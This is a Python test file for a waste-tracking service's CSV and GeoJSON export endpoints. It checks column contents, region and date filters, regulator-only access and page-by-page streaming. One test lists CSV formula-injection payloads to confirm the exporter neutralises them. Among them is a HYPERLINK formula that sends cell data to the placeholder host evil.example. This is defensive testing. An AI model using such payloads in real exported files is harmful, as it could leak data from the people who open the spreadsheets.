"""Exports: CSV and GeoJSON streams, parsed back, on the known data set (tests/utils/flows.py)."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta

import pytest
from shapely.geometry import shape
from sqlmodel import select

from tests.utils.flows import build
from wasteflow.database import session_scope
from wasteflow.detection.model import FindingDraft
from wasteflow.exports import service as exports
from wasteflow.findings import service as findings
from wasteflow.manifests.models import Manifest
from wasteflow.registry.models import Site
from wasteflow.tracks.models import GpsFix

TRACK = [(109.80, 40.60), (109.85, 40.61), (109.90, 40.62), (109.95, 40.65)]


@pytest.fixture
def data(world, engine):
    manifests = build(world, engine)
    start = datetime.fromisoformat("2025-03-10T08:05:00+08:00")
    with session_scope(engine) as session:
        for n, (lon, lat) in enumerate(TRACK):
            session.add(GpsFix(device_id="gps-0001", ts=start + timedelta(minutes=20 * n), seq=n + 1, lat=lat,
                               lon=lon, speed_kmh=40.0, verified=True))
        draft = FindingDraft(code="UNAUTHORIZED_STOP", severity="warning", manifest_no=manifests["m1"],
                             plate="蒙B12345", window_start=start, window_end=start + timedelta(minutes=15),
                             location=TRACK[1], evidence={"duration_s": 900}, verified=True,
                             episode_key="stop-1")
        findings.record(session, draft, region_code="150202")
    return manifests


def fetch(world, path, who="regulator", **params):
    response = world.get(path, who, **params)
    assert response.status_code == 200, response.text
    return response


def read_csv(response) -> list[dict]:
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_manifests_csv(world, data, monkeypatch):
    monkeypatch.setattr(exports, "PAGE", 2)  # several pages, several flushes
    rows = read_csv(fetch(world, "/v1/exports/manifests.csv"))
    by_no = {r["manifest_no"]: r for r in rows}
    assert set(by_no) == set(data.values())
    assert list(rows[0]) == list(exports.MANIFEST_COLUMNS)
    m4 = by_no[data["m4"]]
    assert (m4["status"], m4["declared_kg"], m4["departed_kg"], m4["received_kg"], m4["accepted_kg"]) == (
        "reconciled", "30000", "30000", "28000", "28000")
    assert "TONNAGE_SHORTFALL#" in m4["finding_codes"] and int(m4["open_findings"]) >= 1
    assert m4["received_at"] == "2025-03-11T03:00:00.000000Z" and m4["vehicle_plate"] == "蒙B12345"
    m6 = by_no[data["m6"]]
    assert m6["status"] == "rejected" and m6["departed_kg"] == "" and m6["reject_reason"] == "wrong waste"
    assert "UNAUTHORIZED_STOP" in by_no[data["m1"]]["finding_codes"]
    # scope and filters
    assert {r["manifest_no"] for r in read_csv(fetch(world, "/v1/exports/manifests.csv", region="150205"))} == {
        data["m8"]}
    day1 = read_csv(fetch(world, "/v1/exports/manifests.csv", **{"from": "2025-03-10", "to": "2025-03-10"}))
    assert {r["manifest_no"] for r in day1} == {data["m1"], data["m2"], data["m8"]}
    assert [r["manifest_no"] for r in read_csv(fetch(world, "/v1/exports/manifests.csv", status="rejected"))] == [
        data["m6"]]


def test_exports_are_for_regulators(world, data):
    for path in ("manifests.csv", "manifests.geojson", "tracks.geojson", "flows.csv"):
        assert world.get(f"/v1/exports/{path}", "generator").status_code == 403
        assert world.get(f"/v1/exports/{path}", "regulator", region="abc").status_code == 422
        assert fetch(world, f"/v1/exports/{path}", "admin").status_code == 200


def test_manifests_geojson(world, data, engine, monkeypatch):
    monkeypatch.setattr(exports, "PAGE", 3)
    collection = json.loads(fetch(world, "/v1/exports/manifests.geojson").content)
    assert collection["type"] == "FeatureCollection"
    features = {f["id"]: f for f in collection["features"]}
    assert set(features) == set(data.values())
    m1 = features[data["m1"]]
    assert m1["geometry"] == {"type": "LineString", "coordinates": [list(p) for p in TRACK]}
    assert m1["properties"]["geometry_source"] == "track" and m1["properties"]["fixes"] == 4
    stop = [f for f in m1["properties"]["finding_list"] if f["code"] == "UNAUTHORIZED_STOP"]
    assert stop[0]["location"]["coordinates"] == list(TRACK[1]) and stop[0]["status"] == "open"
    with session_scope(engine) as session:
        plant = shape(session.get(Site, world.ids["plant"]).geofence)
    m4 = features[data["m4"]]
    assert m4["geometry"]["type"] == "Point" and m4["properties"]["geometry_source"] == "generator_site"
    assert plant.contains(shape(m4["geometry"]))
    assert "TONNAGE_SHORTFALL" in m4["properties"]["finding_codes"]
    assert m4["properties"]["departed_kg"] == 30000 and m4["properties"]["accepted_kg"] == 28000
    scoped = json.loads(fetch(world, "/v1/exports/manifests.geojson", region="150205").content)
    assert [f["id"] for f in scoped["features"]] == [data["m8"]]


def test_tracks_geojson(world, data):
    collection = json.loads(fetch(world, "/v1/exports/tracks.geojson",
                                  **{"from": "2025-03-10", "to": "2025-03-10"}).content)
    tracks = [f for f in collection["features"] if f["properties"]["kind"] == "track"]
    assert len(tracks) == 1  # m1 is the only trip with fixes
    (track,) = tracks
    assert track["properties"]["manifest_no"] == data["m1"] and track["geometry"]["type"] == "LineString"
    assert track["properties"]["times"][0] == "2025-03-10T00:05:00.000000Z" and track["properties"]["fixes"] == 4
    points = [f for f in collection["features"] if f["properties"]["kind"] == "finding"]
    assert [(p["properties"]["code"], p["geometry"]["coordinates"]) for p in points] == [
        ("UNAUTHORIZED_STOP", list(TRACK[1]))]
    later = json.loads(fetch(world, "/v1/exports/tracks.geojson", **{"from": "2025-03-11"}).content)
    assert [f for f in later["features"] if f["properties"]["kind"] == "track"] == []


def test_flows_csv_matches_flows(world, data):
    response = fetch(world, "/v1/exports/flows.csv", period="day")
    rows = read_csv(response)
    items = world.get("/v1/flows", "regulator", period="day").json()["items"]
    assert [{k: " ".join(v) if isinstance(v, list) else str(v) for k, v in i.items()} for i in items] == rows
    assert response.headers["x-wasteflow-in-transit-kg"] == "20500"
    assert response.headers["x-wasteflow-disputed-kg"] == "18000"
    assert len(rows) == 5


def test_export_pages_do_not_hold_the_set(world, data, engine, monkeypatch):
    """The exporter reads one page at a time: no query asks for more than a page of manifests."""
    monkeypatch.setattr(exports, "PAGE", 2)
    sizes = []
    original = exports.manifest_pages

    def spy(*args, **kwargs):
        for page in original(*args, **kwargs):
            sizes.append(len(page))
            yield page
    monkeypatch.setattr(exports, "manifest_pages", spy)
    rows = read_csv(fetch(world, "/v1/exports/manifests.csv"))
    assert len(rows) == 9 and max(sizes) == 2 and len(sizes) == 5
    with session_scope(engine) as session:
        assert len(session.exec(select(Manifest)).all()) == 9


@pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1)",
                                    "\tcmd", "\rcmd"])
def test_csv_text_cells_cannot_become_formulas(world, reason):
    """A party's free text reaches the regulator's spreadsheet inert; a number stays a number."""
    no = world.file()
    assert world.post(f"/v1/manifests/{no}/dispatch", {}, "generator").status_code == 200
    assert world.post(f"/v1/manifests/{no}/reject", {"reason": reason}, "receiver").status_code == 200
    row = next(r for r in read_csv(fetch(world, "/v1/exports/manifests.csv")) if r["manifest_no"] == no)
    assert row["reject_reason"] == "'" + reason
    assert row["declared_kg"] == "30000"


def test_spreadsheet_safe_leaves_numbers_and_plain_text_alone():
    assert exports.spreadsheet_safe(-5) == -5 and exports.spreadsheet_safe(-0.5) == -0.5
    assert exports.spreadsheet_safe("wrong waste") == "wrong waste"
    assert exports.spreadsheet_safe("=1") == "'=1"
